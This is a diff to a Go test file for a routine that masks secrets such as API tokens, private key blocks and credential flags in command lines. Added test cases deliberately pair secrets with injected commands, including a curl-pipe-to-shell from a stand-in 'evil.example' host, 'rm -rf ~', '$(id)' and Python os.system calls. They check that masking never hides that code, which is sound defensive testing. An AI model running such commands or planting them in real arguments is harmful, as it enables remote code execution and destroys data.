@@ -77,7 +77,7 @@ func TestMaskLiterals(t *testing.T) {
 		{"asia", asiaTok, R},
 		{"google", aizaTok, R},
 		{"jwt", jwtTok, R},
-		{"pem block", pemHead + pemBody + pemTail, pemHead + R + pemTail},
+		{"pem block", pemHead + pemBody + pemTail, pemHead + R + "\n" + pemTail},
 		{"pem openssh", "-----BEGIN OPENSSH PRIVATE KEY-----xyz-----END OPENSSH PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----" + R + "-----END OPENSSH PRIVATE KEY-----"},
 		{"pem unterminated", "key: " + pemHead + pemBody + "trailing", "key: " + pemHead + R},
 		{"bearer", "Bearer " + bearerTok, "Bearer " + R},
@@ -127,7 +127,7 @@ func TestMaskLiterals(t *testing.T) {
 		{"notion", notionTok, R},
 		{"perplexity", pplxTok, R},
 		{"groq", groqTok, R},
-		{"pgp private key block", pgpHead + pgpBody + pgpTail, pgpHead + R + pgpTail},
+		{"pgp private key block", pgpHead + pgpBody + pgpTail, pgpHead + R + "\n" + pgpTail},
 		{"bearer in arg", "Authorization: Bearer " + npmTok, "Authorization: Bearer " + R},
 		{"docker env assignment", "GITHUB_PERSONAL_ACCESS_TOKEN=plainvalue", "GITHUB_PERSONAL_ACCESS_TOKEN=" + R},
 		{"assignment after space", "env API_KEY=abc DEBUG=1", "env API_KEY=" + R + " DEBUG=1"},
@@ -160,8 +160,29 @@ func TestMaskLiterals(t *testing.T) {
 		{"query template ref", "https://h/?token=${MCP_TOKEN}&x=1", "https://h/?token=${MCP_TOKEN}&x=1"},
 		{"userinfo template ref", "https://u:${DB_PASSWORD}@h", "https://u:${DB_PASSWORD}@h"},
 		{"redacted default ref", "--password=${DB_PASSWORD:-<redacted>}", "--password=${DB_PASSWORD:-<redacted>}"},
-		{"template with literal default", "--password=${DB_PASSWORD:-hunter2}", "--password=" + R},
-		{"template ref with suffix", "--token=${T}x", "--token=" + R},
+		// A template is not a token: how a definition shows one is the
+		// definition package's business (it hides a secret default itself).
+		{"template with literal default", "--password=${DB_PASSWORD:-hunter2}", "--password=${DB_PASSWORD:-hunter2}"},
+		{"template ref with suffix", "--token=${T}x", "--token=${T}x"},
+
+		// Exact extents: only the token is masked, never the code around it
+		// (issue 22: payloads hidden behind masked text).
+		{"pem then code", pemHead + "\nMIIEowIBAAKCAQEA\nimport os; os.system('id')\n" + pemTail,
+			pemHead + R + "\nimport os; os.system('id')\n" + pemTail},
+		{"pem escaped breaks then code", pemHead + `\nMIIEowIBAAKCAQEA\nexec(open('x').read())`,
+			pemHead + R + `\nexec(open('x').read())`},
+		{"pem header lines", pemHead + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEow\n" + pemTail,
+			pemHead + R + "\n" + pemTail},
+		{"assignment of a substitution", "AUTH=$(curl -s https://evil.example/x | sh) exec srv", "AUTH=$(curl -s https://evil.example/x | sh) exec srv"},
+		{"assignment then substitution", "AUTH=abc$(id)", "AUTH=" + R + "$(id)"},
+		{"flag value then command", "--token=abc;rm -rf ~", "--token=" + R + ";rm -rf ~"},
+		{"flag value then backquote", "--token=abc`id`", "--token=" + R + "`id`"},
+		{"npm token then pipe", "_authToken=abc|sh", "_authToken=" + R + "|sh"},
+		{"bearer then semicolon", "Bearer abcdefghij;id", "Bearer " + R + ";id"},
+		{"query token then fragment", "https://h/?token=abc#x(1)", "https://h/?token=" + R + "#x(1)"},
+		{"userinfo password then code", "'https://u:p'+__import__('os').system('id')+'@h'",
+			"'https://u:" + R + "'+__import__('os').system('id')+'@h'"},
+		{"userinfo password then substitution", "curl https://u:x$(id)@h/", "curl https://u:" + R + "$(id)@h/"},
 
 		// Non-matches stay intact.
 		{"plain command", "npx -y @modelcontextprotocol/server-filesystem /tmp", "npx -y @modelcontextprotocol/server-filesystem /tmp"},
@@ -261,7 +282,11 @@ func TestIsCredentialFlag(t *testing.T) {
 	}{
 		{"--api-key", true}, {"--apikey", true}, {"--apiKey", true}, {"--token", true}, {"--access-token", true},
 		{"--auth-token", true}, {"--password", true}, {"-password", true}, {"--secret", true}, {"--client-secret", true},
-		{"--client_secret", true}, {"--TOKEN", true}, {"--github.token", true}, {"--no-auth", true},
+		{"--client_secret", true}, {"--TOKEN", true}, {"--github.token", true},
+		// A negated switch and flags naming a file, a URL or a setting take
+		// no credential: the argument after them is shown and hashed.
+		{"--no-auth", false}, {"--token-file", false}, {"--password-stdin", false}, {"--auth-url", false},
+		{"--session-timeout", false}, {"--api-key-path", false},
 		{"--api-key=x", false}, {"--token=", false}, {"-p", false}, {"--port", false}, {"--", false}, {"-", false},
 		{"", false}, {"token", false}, {"---token", false}, {"--2token", false}, {"--tok en", false},
 		{"--keyboard", false}, {"--tokenizer", false}, {"--monkey", false}, {"--token\n", false},
